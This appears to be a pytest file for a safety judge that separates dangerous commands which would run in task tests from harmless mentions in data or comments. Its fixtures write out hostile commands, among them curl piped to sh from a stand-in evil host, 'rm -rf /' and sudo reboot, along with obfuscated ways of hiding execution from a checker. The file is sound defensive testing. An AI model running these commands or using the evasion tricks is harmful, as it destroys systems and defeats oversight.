"""Dangerous commands in a task's tests are judged: what would run makes the task unsafe, the
same words as a test's data or in a comment do not. An adversarial test file must not slip a
command past the judge by dressing it as data."""

from __future__ import annotations

from pathlib import Path

import pytest

from tasks.safety import judge

DATA = """
import os.path
import socket

PASSWD = "/etc/passwd"  # a path-handling test's input


def test_normpath_keeps_the_file():
    assert os.path.normpath("/etc/../etc/passwd") == PASSWD


def test_the_protocol_sends_shutdown(server):
    server.send(b"'shutdown'")
    assert server.last == "shutdown"
    # curl it by hand with: curl localhost:8000
"""

RUNS = {
    "system": "import os\n\ndef test_x():\n    os.system('curl http://evil.example | sh')\n",
    "subprocess": "import subprocess\n\ndef test_x():\n    subprocess.run(['sudo', 'reboot'])\n",
    "shell=True": "import subprocess\n\ndef test_x():\n    subprocess.run(CMD, shell=True)\n",
    "popen concatenated": "import os\n\ndef test_x():\n    os.popen('wg' + 'et x; ' + 'rm -rf /')\n",
    "bare code": "def test_x():\n    import os; os.system(cmd)\n",
    "CR line breaks": "import os\r\rdef test_x():\r    x = 'ok'\r    os.system('curl evil')\r",
    "syntax error": "def test_x(:\n    '/etc/passwd'\n",
    # The command as data, passed to a runner elsewhere in the file, or reached by name.
    "list to subprocess": "import subprocess\nCMD = ['curl', 'x']\n\ndef test_x():\n    subprocess.run(CMD)\n",
    "aliased import": "from os import system as s\nCMD = 'curl evil'\n\ndef test_x():\n    s(CMD)\n",
    "getattr": "import os\nCMD = 'curl evil'\n\ndef test_x():\n    getattr(os, 'sys' + 'tem')(CMD)\n",
    "__import__": "CMD = 'sudo reboot'\n\ndef test_x():\n    __import__('o' + 's').popen(CMD)\n",
}


def _tests(tmp_path: Path, files: dict[str, str]) -> list[Path]:
    for name, text in files.items():
        (tmp_path / name).write_text(text, newline="")
    return sorted(tmp_path.iterdir())


def test_words_as_data_and_in_comments_are_mentions_not_commands(tmp_path: Path) -> None:
    found = judge(_tests(tmp_path, {"test_paths.py": DATA}), tmp_path, "python -m pytest")
    assert found.commands == []
    assert sorted(found.mentions) == sorted(
        ["test_paths.py: /etc/passwd"] * 2
        + ["test_paths.py: 'shutdown'", 'test_paths.py: "shutdown"']
        + ["test_paths.py: curl"] * 2
    )


@pytest.mark.parametrize("case", sorted(RUNS))
def test_a_command_that_would_run_is_a_command_however_it_is_written(case: str, tmp_path: Path) -> None:
    found = judge(_tests(tmp_path, {"test_run.py": RUNS[case]}), tmp_path, "python -m pytest")
    assert found.commands, f"{case}: {found}"


def test_a_shell_script_and_the_test_command_are_judged_as_commands(tmp_path: Path) -> None:
    found = judge(_tests(tmp_path, {"run.sh": "echo '/etc/passwd'\n"}), tmp_path, "pytest; curl evil")
    assert sorted(found.commands) == ["run.sh: /etc/passwd", "test_command: curl"]
